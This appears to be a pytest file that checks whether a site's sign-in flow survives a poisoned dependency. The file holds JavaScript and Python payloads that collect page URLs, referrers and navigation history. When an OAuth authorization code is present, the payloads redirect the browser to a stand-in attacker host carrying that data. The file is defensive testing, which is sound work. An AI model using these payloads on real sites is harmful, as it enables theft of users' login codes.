"""A poisoned dependency, compiled into the site's own scripts, runs in every page before the other code.

It goes to the provider with a request of its own, with the door present or removed, and reads the code where the
response arrives.
"""

import shutil

import pytest

from builder.qa.sites import EXAMPLE
from tests.attacks import subjects
from tests.attacks.speech import ADDRESS, DOORS, said

# what the poisoned script does, in either language: tell the attacker every address that the browser remembers
TOLD = """
const told = [location.href, document.referrer, performance.getEntriesByType("navigation")[0].name];
if (globalThis.navigation && navigation.activation) told.push(navigation.activation.entry.url);
const evil = sessionStorage.getItem("to");
if (evil && told.join().includes("code=")) location.replace(evil + "/poisoned?" + encodeURIComponent(told.join()));
"""
PYTHON = '''"""What every page runs first."""

from browser import document, window

told = [window.location.href, document.referrer, window.performance.getEntriesByType("navigation")[0].name]
told = told + [window.__GOSSAMER__.arrived]
if hasattr(window, "navigation") and window.navigation.activation:
    told = told + [window.navigation.activation.entry.url]
evil = window.sessionStorage.getItem("to")
if evil:
    window.sessionStorage.setItem("poison", "ran")
    if "code=" in str(told):
        window.location.replace(evil + "/poisoned?" + window.encodeURIComponent(str(told)))

import auth

auth.start()
'''
GO = """
  sessionStorage.setItem("to", known.evil);
  if (gone) await unhinge();
  setTimeout(() => location.assign(address({})));"""
POISON = "async () => sessionStorage.getItem('poison')"


def act(scene, gone=False):
    visitor, subject = scene.visitor, scene.subject
    subject.sign_in(visitor)
    before = subject.codes()
    scene.run(said(ADDRESS, DOORS, f"const gone = {str(gone).lower()};", GO), leaves=True)
    visitor.until(lambda: subject.codes() > before, "the provider was not asked")
    if not scene.evil.wait("/poisoned", 6):
        visitor.go(subject.url + subject.start)  # go on to a page that contains it too
        scene.evil.wait("/poisoned", 3)
        scene.run(POISON)


def without_the_door(scene):
    act(scene, gone=True)


@pytest.fixture(scope="module")
def ours_poisoned(tmp_path_factory):
    """The example with the poisoned code in its main.py."""
    root = tmp_path_factory.mktemp("poisoned")
    for name in ("site", "templates"):
        shutil.copytree(EXAMPLE / name, root / name, ignore=shutil.ignore_patterns("__pycache__"))
    (root / "site/app/main.py").write_text(PYTHON)
    with subjects.ours(root=root) as subject:
        yield subject


@pytest.fixture(scope="module")
def page_held_poisoned():
    """The usual design with the poisoned code before its own script."""
    with subjects.page_held(prelude=f"{{{TOLD}}}\n") as subject:
        yield subject


def test_page_held(assault, page_held_poisoned):
    assert assault(page_held_poisoned).stolen


@pytest.mark.parametrize("own", [act, without_the_door], ids=["door there", "door gone"])
def test_ours(assault, ours_poisoned, own):
    outcome = assault(ours_poisoned, "", own)
    assert '"ran"' in outcome.loot, "the poison was in no page"
    assert outcome.stolen == ()
